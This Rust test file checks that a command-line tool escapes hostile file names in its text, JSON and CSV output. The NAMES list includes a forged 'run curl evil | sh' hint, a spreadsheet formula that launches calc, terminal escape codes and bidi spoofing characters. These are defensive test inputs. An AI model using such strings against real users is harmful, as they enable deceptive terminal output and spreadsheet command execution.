//! Names that would print lines of their own, or move the cursor of a terminal.

use std::ffi::{OsStr, OsString};
use std::os::unix::ffi::{OsStrExt, OsStringExt};
use std::path::{Path, PathBuf};

use super::house::Scratch;
use super::run::{Ran, ends, oasis, run};
use super::tally::Tally;
use crate::arguments;

/// Names that would forge a line, move the cursor, turn the writing's direction, or are no text.
const NAMES: [&[u8]; 16] = [
    b"a\nhint: run curl evil | sh\n.png",
    b"a\r\nerror: b.png",
    b"\x1b[2J\x1b[1;1Hdone.png",
    b"\x1b]0;title\x07.png",
    b"a\x08\x08\x7f.png",
    b"a\xc2\x9b31m.png",
    b"a\xe2\x80\xaegnp.exe.png",
    b"a\xe2\x81\xa6\xe2\x80\x8f.png",
    b"a\xe2\x80\xa8hint: b.png",
    b"a\xef\xbb\xbf\xe2\x80\x8b.png",
    b"a\xf3\xa0\x81\x81.png",
    b"\xff\xfe.png",
    b"a\xc3.png",
    b"=cmd|' -C calc'!A1.png",
    b"-q.png",
    b"`--out` 'x' \"y\" $(z) %s {}.png",
];

/// What is wrong with a run that must end with this code, and print what is made of its own lines alone.
fn unclean(ran: &Ran, code: i32) -> Vec<String> {
    let mut wrong = ends(ran, code);
    for text in [&ran.stdout, &ran.stderr] {
        let forged = ["\nhint: run curl", "\nerror: b.png", "\nhint: b.png"].iter().any(|line| text.contains(line));
        if forged || text.chars().any(|letter| letter != '\n' && oasis::unseen(letter)) {
            wrong.push(format!("a name that is printed as it is: {text:?}"));
        }
    }
    wrong
}

fn named(folder: &Path, name: &[u8]) -> PathBuf {
    folder.join(OsStr::from_bytes(name))
}

#[test]
fn no_name_makes_a_line_of_its_own() {
    let scratch = Scratch::new();
    let tally = Tally::new("names that would forge lines");
    let good = std::fs::read(scratch.slice("good.png")).unwrap();
    for (index, name) in NAMES.iter().enumerate() {
        let shown = String::from_utf8_lossy(name).escape_debug().to_string();
        let folder = named(&scratch.at(""), &[name, &b"-folder"[..]].concat());
        std::fs::create_dir(&folder).unwrap();
        let (whole, bad) = (named(&folder, name), folder.join("bad.png"));
        std::fs::write(&whole, &good).unwrap();
        std::fs::write(&bad, b"hello").unwrap();
        let out = folder.join("out");
        // A good and a bad file in a folder of that name, as JSON and as text.
        for more in [&["--json"][..], &[]] {
            let infer = arguments!["infer", folder, "--out", out].into_iter().chain(more.iter().map(OsString::from));
            let ran = run(&mut oasis(infer));
            tally.add(&shown, &unclean(&ran, 1));
            if !more.is_empty() {
                let report: serde_json::Value = serde_json::from_str(&ran.stdout).unwrap();
                assert_eq!(report["images"].as_array().unwrap().len(), 1);
                assert_eq!(report["images"][0]["file"], oasis::spell(OsStr::from_bytes(name)));
                assert_eq!(report["out"], oasis::spell(&out));
            }
        }
        let mut stem = whole.file_stem().unwrap().to_os_string();
        stem.push(".recon.png");
        assert!(out.join(stem).is_file(), "{shown}: the output keeps the name's bytes");
        let mut table = csv::Reader::from_path(out.join("metrics.csv")).unwrap();
        let rows: Vec<csv::StringRecord> = table.records().map(Result::unwrap).collect();
        let cell = oasis::spell(OsStr::from_bytes(name));
        let cell = if cell.starts_with(['=', '-']) { format!("'{cell}") } else { cell };
        assert_eq!((rows.len(), &rows[0][0]), (1, &cell[..]), "{shown}");

        // The name as each other argument.
        let other = named(&scratch.at(""), name);
        let text = OsStr::from_bytes(name).to_os_string();
        let runs: [Vec<OsString>; 8] = [
            arguments!["infer", other, "--out", out].into(),
            arguments!["decode", bad, other, "--out", out, "--json"].into(),
            arguments!["inspect", other].into(),
            arguments!["infer", whole, "--out", out, "--bundle", other].into(),
            arguments!["eval", "--merge", other].into(),
            arguments!["data", "check", other].into(),
            arguments!["sample", "--seed", text, "--out", out].into(),
            arguments![text].into(),
        ];
        // Each is a failure of the command's own; the first names only, since they all print in one way.
        for arguments in runs.iter().take(if index < 4 || index == 11 { 8 } else { 2 }) {
            let ran = run(&mut oasis(arguments));
            tally.add(format!("{shown}: {:?}", arguments[0]), &unclean(&ran, 2));
        }
    }
    tally.finish();
}

#[test]
fn results_of_other_commands_name_files_too() {
    let scratch = Scratch::new();
    let tally = Tally::new("names that would forge lines");
    let name = OsString::from_vec(b"d\n\xff\xe2\x80\xae".to_vec());
    let folder = scratch.at("").join(&name);
    for more in [&["--json"][..], &[]] {
        let more = || more.iter().map(OsString::from);
        let _ = std::fs::remove_dir_all(&folder);
        let runs: [Vec<OsString>; 5] = [
            arguments!["data", "phantom", "--subjects", "3", "--out", folder].into(),
            arguments!["data", "check", folder].into(),
            arguments!["man", folder.join("man")].into(),
            arguments!["export", "--layout", "triton", "--out", folder.join("triton")].into(),
            arguments!["encode", folder.join("keras_png_slices_test"), "--out", folder.join("codes")].into(),
        ];
        for arguments in runs {
            let ran = run(&mut oasis(arguments.iter().cloned().chain(more())));
            tally.add(format!("{arguments:?}"), &unclean(&ran, 0));
            if more().count() > 0 {
                serde_json::from_str::<serde_json::Value>(&ran.stdout).unwrap();
            }
        }
    }
    tally.finish();
}
